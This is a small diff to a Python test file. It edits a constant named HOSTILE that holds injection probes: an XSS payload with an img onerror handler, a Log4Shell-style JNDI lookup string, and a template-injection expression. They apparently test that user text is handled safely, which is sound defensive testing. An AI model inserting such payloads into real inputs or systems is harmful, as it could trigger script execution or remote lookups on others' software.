@@ -157,7 +157,7 @@ def test_a_watch_that_could_read_nothing_says_so(count: int) -> None:
     assert "0 of 0" not in sources
 
 
-HOSTILE = "Count stock by hand. alert(1)<img src=x onerror=alert(1)> and ${jndi:ldap://x.test} {{7*7}} $jndi take 6 hours"
+HOSTILE = "Count stock by hand. alert(1)<img src=x onerror=alert(1)> ${jndi:ldap://x.test} {{7*7}} $jndi take 6 hours"
 
 
 @pytest.mark.parametrize(
